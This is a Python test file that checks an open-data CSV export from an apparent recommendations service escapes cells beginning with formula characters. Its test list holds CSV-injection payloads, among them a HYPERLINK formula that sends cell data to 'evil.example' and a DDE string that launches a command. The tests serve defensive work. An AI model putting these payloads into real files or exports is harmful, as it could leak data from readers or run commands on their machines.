"""open-data.csv cannot carry a formula into the reader's spreadsheet (issue 15, part 5)."""
from __future__ import annotations

import csv
import io

from recommendations_support import ASSEMBLY, adopt

from services.common.spreadsheet import safe_cell, safe_row

ATTACKS = ['=HYPERLINK("http://evil.example/?x="&A1,"Klik")', "@SUM(1+1)*cmd|' /C calc'!A0",
           "+1+1", "-2+3", "\t=1+1", "\r=1+1"]


def test_cells_starting_like_a_formula_become_text():
    for attack in ATTACKS:
        assert safe_cell(attack) == "'" + attack
    assert safe_row(["Flere cykelstier", 3, -2, None, 0.75, ""]) == \
        ["Flere cykelstier", 3, -2, None, 0.75, ""]  # numbers stay numbers


def test_open_data_csv_neutralises_formulas_in_titles(recommendations):
    for attack in ATTACKS[:4]:
        adopt(recommendations, attack)
    r = recommendations.client.get(f"/public/assemblies/{ASSEMBLY}/open-data.csv")
    assert r.status_code == 200
    rows = list(csv.DictReader(io.StringIO(r.data.decode())))
    assert [row["title"] for row in rows] == ["'" + a for a in ATTACKS[:4]]
    for row in rows:
        assert not any(str(v).startswith(("=", "+", "-", "@", "\t", "\r"))
                       for v in row.values()), row
    # The JSON for machines keeps the text as it was written.
    data = recommendations.client.get(f"/public/assemblies/{ASSEMBLY}/open-data.json").json
    assert [x["title"] for x in data["recommendations"]] == ATTACKS[:4]
